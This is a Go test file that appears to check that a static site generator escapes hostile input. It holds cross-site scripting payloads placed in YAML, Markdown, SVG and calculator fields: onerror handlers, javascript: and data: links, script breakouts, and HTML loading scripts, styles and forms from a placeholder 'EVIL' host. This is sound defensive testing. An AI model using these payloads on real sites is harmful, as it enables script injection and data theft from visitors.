package browsertest

import "strings"

// Texts that try to break out of wherever a text may stand. EVIL stands for the address of a server
// elsewhere.
const (
	inText      = `<img src=x onerror=attacked()><script>attacked();fetch("EVIL/text")</script>`
	inAttribute = `x" onerror="attacked()" onmouseover="attacked()" autofocus onfocus="attacked()" x="`
	inScript    = `</script><script>attacked()</script><!--`
	inTemplate  = "{%attacked()%} ${attacked()} `+attacked()+`"
	inAll       = inText + inAttribute + inScript + inTemplate
)

// hostileTexts is a site whose words try to break out from every place where editors write words, without
// any HTML being allowed.
func hostileTexts() map[string]string {
	yaml := func(s string) string { return "'" + strings.ReplaceAll(s, "'", "''") + "'" }
	return map[string]string{
		"site.yaml": "title: " + yaml(inAll) + "\ndescription: " + yaml(inAll) + "\npublisher: " + yaml(inAll) + "\nfurigana: true\nprint: true\noffline: true\n" +
			"base-url: https://example.jp/\nimage: p.svg\nimage-alt: " + yaml(inAll) + "\nmenu: [texts.md, calc.md]\neditions: {en: {lang: en, name: " + yaml(inAll) + "}}\n",
		"sources.yaml": "evil: {title: " + yaml(inAll) + ", publisher: " + yaml(inAll) + ", checked: 2026-11-01, date: " + yaml(inAll) + ", note: " + yaml(inAll) +
			", url: " + yaml(`https://example.jp/"onmouseover="attacked()`) + "}\n",
		"index.md": "# 始め\n\n[文](texts.md) [計算](calc.md)\n",
		"p.svg":    `<svg xmlns="http://www.w3.org/2000/svg" width="9" height="9" viewBox="0 0 9 9"><style>@import url("EVIL/svg.css");</style><image href="EVIL/svg.png"/></svg>`,
		"texts.md": "---\ntitle: " + yaml(inAll) + "\ndescription: " + yaml(inAll) + "\nnav-title: " + yaml(inAll) + "\ntags: [" + yaml(inText) + "]\nreviewer: " + yaml(inAll) +
			"\nnext: calc.md\nnext-text: " + yaml(inAll) + "\nkind: faq\nsources: [evil]\n---\n\n" + hostileBlocks(),
		"texts.en.md":    "---\ntitle: " + yaml(inAll) + "\n---\n\n" + hostileBlocks(),
		"words.md":       "---\ntitle: 言葉\nlayout: glossary\n---\n### 言葉" + inText + "（ことば） {#x\" onclick=\"attacked()}\n\n" + inAll + "\n\n### 危ない言葉\n\n説明\n",
		"a'b&c=(x);d.md": "# " + inAll + "\n\n{{費用の値}} {{一日の額}} 危ない言葉\n\n::table[額の表]\n",
		"calc.md":        "# 計算\n\n::calculator[hostile]\n",
		"hostile.calc":   strings.ReplaceAll(hostileCalculator, "BAD", strings.ReplaceAll(inText+inScript, ":", "")),
		"figures.md":     "---\ntitle: 数字\nlayout: figures\n---\n",
		"sources.md":     "---\ntitle: 出典\nlayout: sources\n---\n",
	}
}

func hostileBlocks() string {
	return strings.Join([]string{
		"# " + inAll,
		"## 見出し " + inAll + ` {#x"onclick="attacked()"}`,
		"[行く](javascript:attacked()) [行く](JaVaScRiPt:attacked()) [行く](<java\tscript:attacked()>) [行く](&#106;avascript:attacked()) [行く](< javascript:attacked()>) [行く](vbscript:attacked())",
		"[行く](data:text/html,<script>attacked()</script>) <javascript:attacked()> [参][x] [行く](//\"onmouseover=\"attacked())",
		"[x]: javascript:attacked() '\" onclick=\"attacked()'",
		`![` + inAttribute + `](p.svg '` + inAttribute + `') ![x](x.png" onerror="attacked()) ![x](javascript:attacked()) ![x](EVIL/i.png) ![x](data:image/svg+xml,<svg/onload=attacked()>)`,
		":::note[" + inText + "]{x=\"" + "\\\" onclick=attacked()\" onclick=\"attacked()\"}\n" + inAll + "\n:::",
		":::voice[" + inText + "]{source=\"evil\"}\n" + inAll + "\n:::",
		":::details[" + inText + "]\n" + inAll + "\n:::",
		":::faq\n## " + inAll + "\n\n" + inAll + "\n:::",
		"```\"><script>attacked()</script>\n" + inAll + "\n```\n\n`" + inAll + "`\n\n    " + inAll,
		"| " + inText + " |\n|---|\n| " + inText + " |",
		"注[^1] " + inAll + " 危ない言葉\n\n[^1]: " + inAll,
	}, "\n\n") + "\n"
}

const hostileCalculator = `計算機 題BAD
  説明: 説明BAD
  限界: 限界BAD
  次の一歩: 次BAD
  出典: evil

値 一日の額: 100円/日
  説明: 説明BAD
  出典: evil

値 費用の値: 100円
  説明: 説明BAD
  仮定: 仮定BAD

表 額の表(区分の鍵): 円
  説明: 説明BAD
  出典: evil
  一 | 10円   注: 注BAD
  二 | 20円

入力 日数: 日
  質問: 質問BAD
  説明: 説明BAD
  まとまり: まとまりBAD
  範囲: 0日 から 31日

入力 区分の鍵
  質問: 質問BAD
  一: 一つめBAD
  二: 二つめBAD

注意 もし 日数 が 3日 以上: 注意BAD
  出典: evil
止める もし 日数 が 31日: 止めるBAD
  出典: evil

式 費用 = 日数 × 一日の額 + 費用の値 + 額の表(区分の鍵)
  説明: 説明BAD
  出典: evil

出力 費用
  見出し: 見出しBAD
  説明: 説明BAD

例 例
  日数 = 3日, 区分の鍵 = 一
  費用 = 410円
`

// hostileHTML is a page of a site that lets HTML through, whose HTML does whatever HTML can to run a
// script or to send something elsewhere.
const hostileHTML = `# HTML

<script>attacked(); fetch("EVIL/inline")</script>
<script src="EVIL/outside.js"></script>
<script src="data:text/javascript,attacked()"></script>
<script type="module">import("EVIL/module.js"); attacked()</script>
<img src="EVIL/image.png" onerror="attacked()">
<img src="x" srcset="EVIL/set.png 2x" onerror="attacked()">
<svg onload="attacked()"><image href="EVIL/svg.png"/><animate onbegin="attacked()" attributeName="x" dur="1s"/><use href="EVIL/use.svg#a"/></svg>
<iframe src="EVIL/frame"></iframe><iframe srcdoc="<script>parent.attacked()</script>"></iframe><iframe src="javascript:parent.attacked()"></iframe>
<object data="EVIL/object"></object><embed src="EVIL/embed">
<link rel="stylesheet" href="EVIL/style.css"><link rel="prefetch" href="EVIL/prefetch"><link rel="preload" as="image" href="EVIL/preload"><link rel="icon" href="EVIL/icon.png">
<link rel="manifest" href="EVIL/manifest"><link rel="modulepreload" href="EVIL/preload.js">
<style>@import url("EVIL/import.css"); body { background: url("EVIL/background.png") } @font-face { font-family: x; src: url("EVIL/font") } * { font-family: x }</style>
<div style="background: url('EVIL/attribute.png')" onmouseover="attacked()">a</div>
<video src="EVIL/video" poster="EVIL/poster" autoplay></video><audio src="EVIL/audio" autoplay></audio><track src="EVIL/track">
<details open ontoggle="attacked()"><summary>a</summary></details><input autofocus onfocus="attacked()"><marquee onstart="attacked()">a</marquee>
<a id="ping" ping="EVIL/ping" href="#here">a</a> <a id="run" href="javascript:attacked()">a</a>
<form id="send" action="EVIL/form"><input name="a" value="secret"></form>
<base href="EVIL/">
`
